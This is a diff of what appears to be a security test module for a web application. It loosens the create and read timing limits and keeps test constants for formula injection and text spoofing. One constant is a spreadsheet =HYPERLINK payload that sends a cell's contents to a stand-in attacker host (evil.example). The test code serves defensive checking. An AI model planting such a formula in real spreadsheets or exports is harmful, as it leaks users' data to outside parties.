@@ -12,10 +12,11 @@ from bench.attacks import http
 from bench.attacks.registry import Checks, Finding, attack
 from bench.attacks.target import COORDINATOR, MINISTRY, OTHER_STAFF, STAFF, Target
 
-# Now (bounded Markdown, stored HTML): a create well under a second, reads of
-# stored HTML in milliseconds. The limits leave room for a loaded machine.
-CREATE_LIMIT_S = 3.0
-READ_LIMIT_S = 1.0
+# Now (bounded Markdown, stored HTML): a create in about a second, reads of
+# stored HTML in milliseconds. The limits leave room for a loaded machine
+# (2 shared cores) and are still far below the 26–44 s and 8–9 s.
+CREATE_LIMIT_S = 5.0
+READ_LIMIT_S = 2.0
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 RLO = "\u202e"
